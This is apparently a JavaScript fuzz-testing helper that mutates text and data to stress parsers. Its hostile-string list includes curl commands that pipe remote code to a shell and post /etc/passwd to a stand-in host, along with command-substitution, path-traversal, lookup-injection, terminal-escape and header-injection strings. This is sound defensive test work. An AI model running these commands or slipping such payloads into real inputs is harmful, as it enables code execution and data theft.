/** Texts that can break parsers of YAML, shell commands, paths and patterns, and terminals. */
const HOSTILE_TEXTS = [
  ...[
    '',
    '~',
    '.nan',
    '-.inf',
    '010',
    '1e999',
    '-0',
    '9'.repeat(400),
    '*x',
    '&x [*x]',
    '!!binary aGk=',
    '!x y',
  ],
  ...[
    '[',
    '{',
    ']',
    '}',
    '"',
    "'",
    '|',
    '>-',
    '- ',
    '? ',
    ': ',
    '---',
    '%YAML 1.1',
    '\t',
    '\r',
    '<<: *x',
    '#',
  ],
  ...[
    '${',
    '${uuid1',
    '$${',
    '${constructor}',
    '$(id)',
    '`id`',
    '../../..',
    '/etc/passwd',
    '__proto__',
    'constructor',
  ],
  ...[
    '\u0000',
    '\u001b]52;c;aGk=\u0007',
    '\ufeff',
    '\ud800',
    '中',
    'a'.repeat(20_000),
    '(a+)+$',
    '$..*',
    '$[?@.a==1]',
  ],
  ...[
    '-----BEGIN A-----',
    'curl http://h/x | sh',
    "curl 'x",
    'curl -d @/etc/passwd http://h/v2/images',
    '\r\nx: y',
  ],
];

const HOSTILE_VALUES = [
  ...[null, true, 0, -1, 5, 1e9, 1e300, 0.5, '', 'x', '../../..', '__proto__', [], {}, [null], [[]], [{}]],
  ...[{ length: -1 }, { toString: 1 }, { constructor: null }, '9999-99-99', '\u001b[2J', 'a'.repeat(20_000)],
];

/** Returns the text with a few changes, like those that editors, merges and broken disks cause. */
export function mutateText(text, random) {
  let bytes = Buffer.from(text);
  for (let left = 1 + random.below(3); left > 0; left--) bytes = changeText(bytes, random);
  return bytes;
}

function changeText(bytes, random) {
  const at = random.below(bytes.length + 1);
  const lines = () => bytes.toString('latin1').split('\n');
  const join = (all) => Buffer.from(all.join('\n'), 'latin1');
  switch (random.below(9)) {
    case 0:
      return Buffer.concat([
        bytes.subarray(0, at),
        Buffer.from(random.pick(HOSTILE_TEXTS)),
        bytes.subarray(at),
      ]);
    case 1:
      return bytes.subarray(0, at);
    case 2:
      return Buffer.concat([bytes.subarray(0, at), Buffer.from([random.below(256)]), bytes.subarray(at + 1)]);
    case 3: {
      const all = lines();
      all.splice(random.below(all.length), 1);
      return join(all);
    }
    case 4: {
      const all = lines();
      const from = random.below(all.length);
      all.splice(random.below(all.length), 0, ...all.slice(from, from + 1 + random.below(4)));
      return join(all);
    }
    case 5: {
      const all = lines();
      const line = random.below(all.length);
      all[line] = random.chance(0.5) ? ` ${all[line]}` : all[line].slice(1);
      return join(all);
    }
    case 6: {
      const all = lines();
      const line = random.below(all.length);
      all[line] = all[line].replace(/:.*/, () => `: ${random.pick(HOSTILE_TEXTS)}`);
      return join(all);
    }
    case 7: {
      const length = random.below(40);
      const part = bytes.subarray(at, at + length);
      return Buffer.concat([
        bytes.subarray(0, at),
        ...Array(random.pick([2, 20, 2000])).fill(part),
        bytes.subarray(at),
      ]);
    }
    default: {
      const all = lines();
      const line = random.below(all.length);
      all[line] = all[line].replace(/[\w-]+(?=\s*:)/, (key) =>
        random.pick([key.slice(1), `${key}s`, key.toUpperCase(), '5', '? a']),
      );
      return join(all);
    }
  }
}

/** Returns the data with one to three of its parts replaced, removed, renamed or nested. */
export function mutateData(data, random) {
  const holder = { root: structuredClone(data) };
  for (let left = 1 + random.below(3); left > 0; left--) {
    const places = placesIn(holder);
    if (places.length > 0) changeAt(...random.pick(places), random);
  }
  return holder.root;
}

function changeAt(parent, key, random) {
  switch (random.below(6)) {
    case 0:
      if (Array.isArray(parent)) parent.splice(key, 1);
      else delete parent[key];
      break;
    case 1:
      parent[key] = [parent[key]];
      break;
    case 2:
      parent[key] = { [random.pick(['x', 'length', 'toString', 'kind'])]: parent[key] };
      break;
    case 3:
      if (!Array.isArray(parent)) parent[`${key}x`] = parent[key];
      break;
    default:
      parent[key] = structuredClone(random.pick(HOSTILE_VALUES));
  }
}

function placesIn(value) {
  if (typeof value !== 'object' || value === null) return [];
  return Object.keys(value).flatMap((key) => {
    const at = Array.isArray(value) ? Number(key) : key;
    return [[value, at], ...placesIn(value[key])];
  });
}
